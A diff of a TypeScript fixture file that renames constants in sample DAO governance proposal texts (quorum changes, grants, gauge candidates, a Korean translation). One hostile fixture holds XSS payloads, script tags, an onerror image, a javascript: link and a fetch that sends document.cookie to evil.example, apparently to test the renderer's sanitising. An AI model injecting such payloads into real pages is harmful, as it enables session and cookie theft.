@@ -1,4 +1,4 @@
-/** Text of a devnet proposal. */
+/** Title, link and description of a devnet proposal. */
 export interface ProposalText {
   readonly title: string;
   readonly link: string;
@@ -6,9 +6,9 @@ export interface ProposalText {
   readonly text: string;
 }
 
-const FORUM = 'https://forum.example.org/t/';
+const FORUM_URL = 'https://forum.example.org/t/';
 
-const DOCUMENTED = `## Why
+const DOCUMENTED_PROPOSAL = `## Why
 
 Answers are spread over three chats. A page that is *kept* costs less than answering.
 
@@ -27,9 +27,9 @@ const price = await pool.call('expectedExchange', { amount, spent });
 | contracts | 40    | 1 000 |
 | walks     | 20    | 500   |
 
-Half is paid now, half when the [outline](${FORUM}docs-outline) is done.`;
+Half is paid now, half when the [outline](${FORUM_URL}docs-outline) is done.`;
 
-const KOREAN = `## 제안 배경
+const KOREAN_PROPOSAL = `## 제안 배경
 
 한국어 사용자는 전체 거래량의 상당 부분을 차지하지만 문서는 영어로만 제공됩니다.
 
@@ -43,9 +43,9 @@ const KOREAN = `## 제안 배경
 
 계산식은 \`부스트 = 1 + (최대 − 1) × 잠금 기간 ÷ 최대 기간\` 을 따릅니다.
 
-자세한 내용은 [포럼 글](${FORUM}korean-docs)을 참고해 주세요.`;
+자세한 내용은 [포럼 글](${FORUM_URL}korean-docs)을 참고해 주세요.`;
 
-const HOSTILE = `# Refund of 10 USDT <script>alert('title')</script>
+const HOSTILE_PROPOSAL = `# Refund of 10 USDT <script>alert('title')</script>
 
 <script>fetch('https://evil.example/' + document.cookie)</script>
 <img src="x" onerror="alert(1)">
@@ -68,10 +68,10 @@ ${'> '.repeat(40)}deep
 **Not closed, _and nested [never](`;
 
 /** Texts of the planned proposals by their key. */
-export const TEXTS = {
+export const PROPOSAL_TEXTS = {
   quorum: {
     title: 'Lower the quorum to 80 000 ve',
-    link: `${FORUM}quorum`,
+    link: `${FORUM_URL}quorum`,
     text: `## What changes
 
 The quorum goes from **100 000** to **80 000** ve. Threshold and periods stay.
@@ -88,7 +88,7 @@ The action is \`updateQuorumVotes(80000000000000)\`, sent by the DAO to itself.`
   },
   grant: {
     title: 'Reward for the report on limit orders',
-    link: `${FORUM}order-report`,
+    link: `${FORUM_URL}order-report`,
     text: `A maker found that an order could be filled a unit below its price, and told us first.
 
 - 4 500 USDT, as the table of rewards says for *medium*
@@ -98,12 +98,12 @@ See the [fix](https://code.example.org/junction/fixes/31).`,
   },
   majority: {
     title: 'Pay liquidity providers from the treasury',
-    link: `${FORUM}provider-pay`,
+    link: `${FORUM_URL}provider-pay`,
     text: '### Proposal\n\nThree providers share **120 000 JCT** for a year of work.',
   },
   removal: {
     title: 'Remove EMBER/WTYCHO from the candidates',
-    link: `${FORUM}ember`,
+    link: `${FORUM_URL}ember`,
     text: `The pool trades less in a week than others in an hour, and still takes its share of every epoch.
 
 Votes for it in the running epoch go where votes above the limit go.`,
@@ -115,12 +115,12 @@ Votes for it in the running epoch go where votes above the limit go.`,
   },
   tie: {
     title: 'Raise the quorum to 130 000 ve',
-    link: `${FORUM}quorum-again`,
+    link: `${FORUM_URL}quorum-again`,
     text: 'More tokens are locked than when we lowered it.\n\n- now 80 000\n- then 130 000',
   },
   approval: {
     title: 'Approve WTYCHO/JCT as a candidate',
-    link: `${FORUM}wtycho-jct`,
+    link: `${FORUM_URL}wtycho-jct`,
     text: `The gauge follows the older farm of the same pool. Its owner pays for the place when the vote goes well: a candidate that nobody may vote for is dropped after four epochs.
 
 1. \`approveGaugeDAO\` for the gauge
@@ -133,12 +133,12 @@ Votes for it in the running epoch go where votes above the limit go.`,
   },
   forgotten: {
     title: 'Pay for a second node',
-    link: `${FORUM}second-node`,
+    link: `${FORUM_URL}second-node`,
     text: 'A year of a node in another city, **1 200 USDT**, so that the page answers when one is away.',
   },
   executable: {
     title: 'Three months of market making for JCT/USDC',
-    link: `${FORUM}market-making`,
+    link: `${FORUM_URL}market-making`,
     text: `Quotes within \`0.5 %\` for **3 000 USDT**.
 
 - at least 20 hours a day
@@ -146,7 +146,7 @@ Votes for it in the running epoch go where votes above the limit go.`,
   },
   inTimeLock: {
     title: 'Quorum of 90 000 ve',
-    link: `${FORUM}quorum-90`,
+    link: `${FORUM_URL}quorum-90`,
     text: 'Between the first and the second attempt: `updateQuorumVotes(90000000000000)`.',
   },
   hiddenTransfer: {
@@ -158,7 +158,7 @@ Nothing changes for anybody.`,
   },
   candidate: {
     title: 'New candidate: USDT/JCT',
-    link: `${FORUM}usdt-jct`,
+    link: `${FORUM_URL}usdt-jct`,
     text: `## The pool
 
 The *deepest* pair of JCT with a dollar after USDC.
@@ -173,16 +173,16 @@ The *deepest* pair of JCT with a dollar after USDC.
     link: '',
     text: 'The old mailbox is full. This **only** updates the contact.',
   },
-  korean: { title: '한국어 문서 번역 지원', link: `${FORUM}korean-docs`, text: KOREAN },
+  korean: { title: '한국어 문서 번역 지원', link: `${FORUM_URL}korean-docs`, text: KOREAN_PROPOSAL },
   hostileText: {
     title: '<img src=x onerror=alert(0)> Refund',
     link: 'javascript:alert(document.domain)',
-    text: HOSTILE,
+    text: HOSTILE_PROPOSAL,
   },
-  pending: { title: 'Pay for documentation', link: `${FORUM}docs`, text: DOCUMENTED },
+  pending: { title: 'Pay for documentation', link: `${FORUM_URL}docs`, text: DOCUMENTED_PROPOSAL },
   pendingRemoval: {
     title: 'Remove USDT/USDC/DAI from the candidates',
-    link: `${FORUM}stable-gauge`,
+    link: `${FORUM_URL}stable-gauge`,
     text: 'Stable coins need no rewards to trade at par.\n\n**Against** means that the gauge stays.',
   },
 } as const satisfies Record<string, ProposalText>;
